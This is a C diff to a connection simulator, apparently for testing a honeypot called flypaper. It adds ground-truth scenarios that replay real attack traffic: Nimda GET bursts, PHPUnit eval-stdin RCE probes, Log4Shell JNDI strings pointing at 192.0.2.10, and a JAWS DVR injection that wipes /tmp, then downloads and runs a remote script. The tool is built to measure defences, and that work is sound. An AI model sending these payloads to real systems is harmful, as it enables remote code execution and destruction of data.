@@ -64,17 +64,18 @@ struct sim_options {
 	double rate;                 /* connections per second, 0 unlimited */
 	uint32_t bind_first, bind_last;      /* IPv4 source range, host order */
 	uint64_t reply_ms;           /* how long a peer waits for a reply */
-	uint64_t hold_ms;            /* silent, ident-shy: how long to wait */
+	uint64_t hold_ms;            /* silent, ident-shy, gated: how long to wait */
 	uint64_t banner_ms;          /* nmap-like: wait for a banner */
 	uint64_t duration_ms;        /* the whole run's bound */
 	size_t payload_size;         /* flood */
 	int ident_port;              /* ident-shy listens here on its source */
+	int seed;                    /* coin: which sources deliver */
 	bool own_target;
 };
 
 struct sim_stats {
 	atomic_long connections, failed, replies, second_stages, dropped_on_data,
-	    dropped_on_ident;
+	    dropped_on_ident, payloads;
 	atomic_llong bytes_out, bytes_in;
 };
 
@@ -176,10 +177,13 @@ static int sim_connect(struct sim_run *run, uint32_t src)
 	return fd;
 }
 
+/* Sends one request (counted in payloads) within the run's bound. */
 static void sim_send(struct sim_run *run, int fd, const void *data, size_t len)
 {
 	const char *p = data;
 
+	if (len > 0)
+		atomic_fetch_add(&run->st.payloads, 1);
 	while (len > 0 && sim_bound(run, fd) == 0) {
 		ssize_t n = send(fd, p, len, MSG_NOSIGNAL);
 		if (n <= 0)
@@ -370,6 +374,119 @@ static void sim_ident_shy(struct sim_run *run, uint32_t src)
 
 static void sim_request(struct sim_run *run, uint32_t src, const char *req);
 
+/* ---- ground truth (issue 13) --------------------------------------------
+ * Peers whose delivery depends on the server's first byte in a known way,
+ * so that an experiment's verdicts can be checked against the truth. Each
+ * scenario's connections per source are fixed whatever the server does
+ * (the burst size is the cohort, and must not depend on the strategy). */
+
+enum sim_gate {
+	SIM_AT_ONCE,                 /* sends its request at once */
+	SIM_AFTER_BYTE,              /* sends only once the server has spoken */
+	SIM_UNLESS_BYTE,             /* leaves at the server's first byte */
+	SIM_NEVER,                   /* connects and leaves without a byte */
+};
+
+/* One connection gated by gate: AFTER_BYTE waits up to --hold for any
+ * server byte and sends req only if one came (else leaves silently);
+ * UNLESS_BYTE waits up to --hold and leaves at the first server byte,
+ * sending req only after the whole --hold of silence. A request sent is
+ * followed by reading the reply for up to --reply-timeout. */
+static void sim_gated(struct sim_run *run, uint32_t src, enum sim_gate gate,
+    const char *req)
+{
+	char buf[4096];
+	int fd = sim_connect(run, src);
+	bool send_it = gate == SIM_AT_ONCE;
+
+	if (fd < 0)
+		return;
+	if (gate == SIM_AFTER_BYTE || gate == SIM_UNLESS_BYTE) {
+		bool spoke = sim_read(run, fd, buf, sizeof(buf), run->o.hold_ms, true) > 0;
+		send_it = gate == SIM_AFTER_BYTE ? spoke : !spoke;
+		if (spoke && !send_it)
+			atomic_fetch_add(&run->st.dropped_on_data, 1);
+	}
+	if (send_it && !sim_expired(run)) {
+		sim_send(run, fd, req, strlen(req));
+		sim_read(run, fd, buf, sizeof(buf), run->o.reply_ms, false);
+	}
+	close(fd);
+}
+
+/* The Nimda burst that waits for the server to speak first: 16
+ * connections, each sending its GET only after a server byte. */
+static void sim_script_waits_for_server(struct sim_run *run, uint32_t src, int arg)
+{
+	char req[512];
+
+	(void)arg;
+	for (int i = 0; i < 16 && !sim_expired(run); i++) {
+		sim_format(req, sizeof(req), "GET %s HTTP/1.0\r\n\r\n", sim_nimda_paths[i]);
+		sim_gated(run, src, SIM_AFTER_BYTE, req);
+	}
+}
+
+static const char sim_phpunit_post[] = "POST %s/vendor/phpunit/phpunit/src/Util/PHP/"
+    "eval-stdin.php HTTP/1.1\r\nHost: %s\r\nContent-Type: text/plain\r\n"
+    "Content-Length: 19\r\n\r\n<?php echo(md5(1));";
+
+/* Four PHPUnit probes, each leaving at the server's first byte. */
+static void sim_script_leaves_on_byte(struct sim_run *run, uint32_t src, int arg)
+{
+	static const char *const prefixes[4] = {"", "/laravel", "/lib/phpunit", "/api"};
+	char req[512], host[ADDR_TEXT_LEN];
+
+	(void)arg;
+	addr_format(&run->o.target, host, sizeof(host));
+	for (int i = 0; i < 4 && !sim_expired(run); i++) {
+		sim_format(req, sizeof(req), sim_phpunit_post, prefixes[i], host);
+		sim_gated(run, src, SIM_UNLESS_BYTE, req);
+	}
+}
+
+/* splitmix64's finaliser: a well-mixed 64 bits from seed and address. */
+static uint64_t sim_mix(uint64_t x)
+{
+	x += 0x9e3779b97f4a7c15ULL;
+	x = (x ^ (x >> 30)) * 0xbf58476d1ce4e5b9ULL;
+	x = (x ^ (x >> 27)) * 0x94d049bb133111ebULL;
+	return x ^ (x >> 31);
+}
+
+/* Does this source deliver? Half of the sources, fixed by --seed and the
+ * address, so a run is reproducible and the strategy plays no part. */
+static bool sim_coin(const struct sim_run *run, uint32_t src)
+{
+	return sim_mix(((uint64_t)(uint32_t)run->o.seed << 32) | ntohl(src)) >> 63;
+}
+
+/* Eight Log4Shell requests sent at once, or eight empty connections,
+ * by the coin. */
+static void sim_script_coin(struct sim_run *run, uint32_t src, int arg)
+{
+	char req[512], host[ADDR_TEXT_LEN];
+	enum sim_gate gate = sim_coin(run, src) ? SIM_AT_ONCE : SIM_NEVER;
+
+	(void)arg;
+	addr_format(&run->o.target, host, sizeof(host));
+	for (int i = 0; i < 8 && !sim_expired(run); i++) {
+		sim_format(req, sizeof(req), "GET /?q=${jndi:ldap://192.0.2.10:1389/c%d} HTTP/1.1"
+		    "\r\nHost: %s\r\nUser-Agent: ${jndi:ldap://192.0.2.10:1389/u}\r\n\r\n",
+		    i, host);
+		sim_gated(run, src, gate, req);
+	}
+}
+
+/* One JAWS DVR exploit, sent at once whatever the server does. */
+static void sim_script_at_once(struct sim_run *run, uint32_t src, int arg)
+{
+	(void)arg;
+	sim_gated(run, src, SIM_AT_ONCE, "GET /shell?cd+/tmp;rm+-rf+*;wget+"
+	    "http://192.0.2.10/jaws;sh+/tmp/jaws HTTP/1.1\r\nUser-Agent: Hello, world\r\n"
+	    "Host: flypaper\r\n\r\n");
+}
+
 static void sim_nmap_like(struct sim_run *run, uint32_t src)
 {
 	char *reply = malloc(SIM_REPLY_MAX);
@@ -545,6 +662,14 @@ static const struct sim_scenario sim_scenarios[] = {
 	    .request = "GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: "
 	    "Mozilla/5.0 (X11; Linux x86_64)\r\nAccept: */*\r\n\r\n",
 	    .paths = {"/.env", "/.git/config", "/.git/HEAD"}},
+	{"waits-for-server", "ground truth: the Nimda burst (16), each GET sent only after a server byte within --hold",
+	    .script = sim_script_waits_for_server},
+	{"at-once", "ground truth: 1 connection, a JAWS DVR exploit sent at once whatever happens",
+	    .script = sim_script_at_once},
+	{"leaves-on-byte", "ground truth: 4 PHPUnit POSTs, each sent only after --hold of server silence",
+	    .script = sim_script_leaves_on_byte},
+	{"coin", "ground truth: 8 Log4Shell GETs at once from half the sources (by --seed), none from the rest",
+	    .script = sim_script_coin},
 	{"flood", "load: --payload-size bytes, shut down, wait for close",
 	    .script = sim_script_flood},
 };
@@ -607,7 +732,7 @@ static void sim_usage(FILE *out)
 	    "           [--concurrency C] [--rate R] [--bind-range 127.0.0.2-127.0.0.250]\n"
 	    "           [--reply-timeout DUR] [--hold DUR] [--banner-wait DUR]\n"
 	    "           [--duration DUR] [--payload-size N] [--ident-port P]\n"
-	    "           [--i-own-this-target]\n\nscenarios:\n");
+	    "           [--seed N] [--i-own-this-target]\n\nscenarios:\n");
 	for (size_t i = 0; i < SIM_NSCENARIOS; i++)
 		fprintf(out, "  %-15s %s\n", sim_scenarios[i].name, sim_scenarios[i].what);
 }
@@ -693,7 +818,7 @@ static const struct option_row sim_options[] = {
 	{.name = "bind-range", .type = OPTION_CUSTOM, .set = sim_set_range,
 	    .metavar = "A-B", .help = "IPv4 source addresses"},
 	SIM_DURATION_ROW("reply-timeout", reply_ms, "how long a peer waits for a reply"),
-	SIM_DURATION_ROW("hold", hold_ms, "silent, ident-shy: how long to wait"),
+	SIM_DURATION_ROW("hold", hold_ms, "silent, ident-shy, the gated ones: how long to wait"),
 	SIM_DURATION_ROW("banner-wait", banner_ms, "nmap-like: wait for a banner"),
 	SIM_DURATION_ROW("duration", duration_ms, "the whole run's bound"),
 	{.name = "payload-size", .type = OPTION_SIZE, .field = SIM_FIELD(payload_size),
@@ -701,6 +826,8 @@ static const struct option_row sim_options[] = {
 	    .syntax = "is not a size up to 64M", .over = "is not a size up to 64M"},
 	{.name = "ident-port", .type = OPTION_INT, .field = SIM_FIELD(ident_port),
 	    .min = 1, .max = 65535, .metavar = "P", .help = "ident-shy listens here on its source"},
+	{.name = "seed", .type = OPTION_INT, .field = SIM_FIELD(seed),
+	    .min = 0, .max = 2147483647, .metavar = "N", .help = "coin: which half of the sources deliver"},
 	{.name = "i-own-this-target", .type = OPTION_FLAG, .field = SIM_FIELD(own_target),
 	    .help = "allow a target outside loopback"},
 };
@@ -715,7 +842,7 @@ int sim_main(int argc, char **argv)
 
 	run.o = (struct sim_options){.sources = 1, .count = 1, .concurrency = 0,
 	    .reply_ms = 5000, .hold_ms = 5000, .banner_ms = 6000,
-	    .duration_ms = 120000, .payload_size = 3800, .ident_port = 113};
+	    .duration_ms = 120000, .payload_size = 3800, .ident_port = 113, .seed = 1};
 	/* The scenario comes first: "flypaper sim nimda --target ...". */
 	if (argc >= 2 && argv[1][0] != '-') {
 		scenario = argv[1];
@@ -763,11 +890,11 @@ int sim_main(int argc, char **argv)
 	double secs = sim_now() - t0;
 	printf("scenario=%s sources=%d connections=%ld failed=%ld bytes_out=%lld "
 	    "bytes_in=%lld replies=%ld second_stages=%ld dropped_on_data=%ld "
-	    "dropped_on_ident=%ld seconds=%.2f%s\n", run.o.scenario, run.o.sources,
+	    "dropped_on_ident=%ld payloads=%ld seconds=%.2f%s\n", run.o.scenario, run.o.sources,
 	    atomic_load(&run.st.connections), atomic_load(&run.st.failed),
 	    atomic_load(&run.st.bytes_out), atomic_load(&run.st.bytes_in),
 	    atomic_load(&run.st.replies), atomic_load(&run.st.second_stages),
 	    atomic_load(&run.st.dropped_on_data), atomic_load(&run.st.dropped_on_ident),
-	    secs, sim_expired(&run) ? " (stopped at --duration)" : "");
+	    atomic_load(&run.st.payloads), secs, sim_expired(&run) ? " (stopped at --duration)" : "");
 	return atomic_load(&run.st.failed) ? 1 : 0;
 }
